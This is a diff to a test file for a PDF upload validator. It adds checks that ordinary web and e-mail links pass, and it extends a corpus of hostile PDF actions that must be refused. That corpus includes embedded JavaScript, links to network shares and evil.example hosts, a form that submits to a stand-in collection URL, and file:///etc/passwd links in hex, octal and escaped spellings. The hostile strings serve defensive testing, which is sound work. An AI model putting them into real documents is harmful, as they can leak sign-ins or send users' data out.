@@ -1,5 +1,5 @@
 import { deflateSync } from "node:zlib";
-import { apiErrorMessages, MAX_DOCUMENT_BYTES } from "@app/contract";
+import { apiErrorMessages, MAX_DOCUMENT_BYTES, pdfActiveParts } from "@app/contract";
 import { describe, expect, it } from "vitest";
 import {
   deflate,
@@ -59,6 +59,32 @@ describe("prepareDocument: what passes", () => {
     expect((await prepareDocument(bytes)).pageCount).toBe(2);
   });
 
+  // Real brochures link to their website and e-mail address; an article thread is honest too.
+  it.each([
+    ["a web link", "/S /URI /URI (https://example.com/brochure)"],
+    ["a plain http link, its scheme in capitals", "/S /URI /URI (HTTP://EXAMPLE.COM)"],
+    ["an e-mail link", "/S /URI /URI (mailto:info@example.com)"],
+    ["a web link written in hex", "/S /URI /URI <68747470733A2F2F6578616D706C652E636F6D>"],
+    ["a web link split over two lines", "/S /URI /URI (ht\\\ntps://example.com)"],
+    ["a thread action within the document", "/S /Thread /D 0 /B 1"],
+  ])("takes %s", async (_label, action) => {
+    const bytes = pagesPdf(1, {
+      catalog: `/OpenAction << ${action} >> /URI << /Base (https://example.com/) >>`,
+      pageExtra:
+        "/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.com) >> >>]",
+    });
+    expect((await prepareDocument(bytes)).pageCount).toBe(1);
+  });
+
+  it("takes article threads, whose /F is their first bead", async () => {
+    const bead = firstExtraObject(1);
+    const bytes = pagesPdf(1, {
+      catalog: `/Threads [<< /Type /Thread /F ${bead} 0 R /I << /Title (News) >> >>]`,
+      objects: [`<< /Type /Bead /T 9 0 R /N ${bead} 0 R /V ${bead} 0 R /P 3 0 R /R [0 0 9 9] >>`],
+    });
+    expect((await prepareDocument(bytes)).pageCount).toBe(1);
+  });
+
   it("does not inflate image pixels, nor read three chance bytes /JS in stream data", async () => {
     const pixels = new Uint8Array(60 * 1024 * 1024); // over the inflate limit once unpacked
     const chance = latin1("\x00\xff/JS\x00\x13");
@@ -102,7 +128,7 @@ describe("prepareDocument: the hostile corpus", () => {
   });
 
   it("refuses a page's additional action (/AA) with only a /JS key", async () => {
-    const bytes = pagesPdf(1, { pageExtra: "/AA << /O << /S /Rendition /JS (app.alert(1)) >> >>" });
+    const bytes = pagesPdf(1, { pageExtra: "/AA << /O << /JS (app.alert(1)) >> >>" });
     expect(await refusal(bytes)).toEqual(scriptRefusal);
   });
 
@@ -119,13 +145,13 @@ describe("prepareDocument: the hostile corpus", () => {
       "a string",
       { trailer: `/Info << /Title ( 4 0 obj ${alert.replace(/[()]/g, "")} endobj ) >>` },
     ],
-    ["a string, with /JS alone", { trailer: "/Info << /Title (/S /Rendition /JS 5) >>" }],
+    ["a string, with /JS alone", { trailer: "/Info << /Title (/JS 5) >>" }],
   ])("refuses an action hidden in %s", async (_, parts) => {
     expect(await refusal(pagesPdf(1, parts))).toEqual(scriptRefusal);
   });
 
   it("refuses /JS in plain (unfiltered) stream data, where a hidden object may stand", async () => {
-    const hidden = streamBody("", "4 0 obj << /S /Rendition /JS (app.alert(1)) >> endobj");
+    const hidden = streamBody("", "4 0 obj << /JS (app.alert(1)) >> endobj");
     expect(await refusal(pagesPdf(1, { objects: [hidden] }))).toEqual(scriptRefusal);
   });
 
@@ -152,7 +178,7 @@ describe("prepareDocument: the hostile corpus", () => {
       objects: [
         streamBody(
           `/Subtype /Image /N 1 /First ${header.length} /Filter /FlateDecode`,
-          deflate(`${header}<< /S /Rendition /JS (app.alert(1)) >>`),
+          deflate(`${header}<< /JS (app.alert(1)) >>`),
         ),
       ],
     });
@@ -170,45 +196,79 @@ describe("prepareDocument: the hostile corpus", () => {
   // Actions that reach outside the document: a link to another file (on a network share it
   // hands over the visitor's Windows sign-in), a form that sends what is typed, a data import.
   // A file's name cannot be told from a share or web address in every spelling (escapes, hex
-  // strings, file specification dictionaries, references), so every such link is refused.
-  const otherFile = "a link that opens another file (it can reach a network share or website)";
+  // strings, file specification dictionaries, references), so every such link is refused. A
+  // web link (/URI) to anything but a web page or e-mail address opens a file, a share or a
+  // script; media and thread actions into another file fetch a file of their own.
   it.each([
     [
       "a link to a file on a network share",
       "/S /GoToR /F (\\\\\\\\server\\\\share\\\\a.pdf) /D [0 /Fit]",
-      otherFile,
+      "otherFile",
     ],
     [
       "a link to a file on a website",
       "/S /GoToR /F << /FS /URL /F (https://evil.example/a.pdf) >> /D [0 /Fit]",
-      otherFile,
+      "otherFile",
     ],
-    ["a link to a file by its name", "/S /GoToR /F (prices.pdf) /D [0 /Fit]", otherFile],
+    ["a link to a file by its name", "/S /GoToR /F (prices.pdf) /D [0 /Fit]", "otherFile"],
     [
       "a link into a file embedded elsewhere",
       "/S /GoToE /F (http://evil.example/a.pdf) /T << /R /C /N (x) >>",
-      otherFile,
+      "otherFile",
     ],
     [
       "a link whose kind is written with #xx escapes",
       "/S /GoTo#52 /F (\\\\\\\\server\\\\a.pdf)",
-      otherFile,
+      "otherFile",
     ],
     [
       "a form that sends what is typed",
       "/S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >>",
-      "a form that sends what is typed into it (it can send it to any website)",
+      "submitForm",
+    ],
+    ["a data import", "/S /ImportData /F (\\\\\\\\server\\\\share\\\\data.fdf)", "importData"],
+    ["a link to a local file", "/S /URI /URI (file:///etc/passwd)", "otherLink"],
+    ["a link to a network share", "/S /URI /URI (\\\\\\\\server\\\\share)", "otherLink"],
+    ["a link to an SMB share", "/S /URI /URI (smb://server/share)", "otherLink"],
+    ["a script link", "/S /URI /URI (javascript:app.alert\\(1\\))", "otherLink"],
+    ["a link with no scheme", "/S /URI /URI (//server/share)", "otherLink"],
+    ["a link whose scheme only looks like http", "/S /URI /URI (http\\032//x)", "otherLink"],
+    [
+      "a file link written in hex",
+      "/S /URI /URI <66 69 6c 65 3A2F2F2F6574632F706173737764>",
+      "otherLink",
     ],
     [
-      "a data import",
-      "/S /ImportData /F (\\\\\\\\server\\\\share\\\\data.fdf)",
-      "a data import action (it can read a file from the visitor's computer)",
+      "a file link written with an octal escape",
+      "/S /URI /URI (\\146ile:///etc/passwd)",
+      "otherLink",
     ],
-  ])("refuses %s", async (_label, action, what) => {
+    ["a file link split over two lines", "/S /URI /URI (fi\\\nle:///etc/passwd)", "otherLink"],
+    [
+      "a file link whose key is written with #xx escapes",
+      "/S /U#52I /U#52I (file:///c:/x)",
+      "otherLink",
+    ],
+    ["a link whose target is elsewhere (a reference)", "/S /URI /URI 9 0 R", "otherLink"],
+    ["a movie action", "/S /Movie /Annotation 9 0 R /Operation /Play", "media"],
+    ["a sound action", "/S /Sound /Sound 9 0 R", "media"],
+    [
+      "a rendition action",
+      "/S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /FS /URL /F (https://evil.example/a.mp4) >> >> >>",
+      "media",
+    ],
+    ["a rendition action written with #xx escapes", "/S /R#65ndition /OP 0 /AN 9 0 R", "media"],
+    [
+      "a thread action into another file",
+      "/S /Thread /F (\\\\\\\\server\\\\a.pdf) /D 0",
+      "otherFile",
+    ],
+    ["a thread action into another file, by reference", "/S /Thr#65ad /F 9 0 R /D 0", "otherFile"],
+  ] as const)("refuses %s", async (_label, action, part) => {
     const bytes = pagesPdf(1, { catalog: `/OpenAction << ${action} >>` });
     expect(await refusal(bytes)).toEqual({
       status: 415,
-      message: apiErrorMessages.pdfActive(what),
+      message: apiErrorMessages.pdfActive(pdfActiveParts[part]),
     });
   });
 
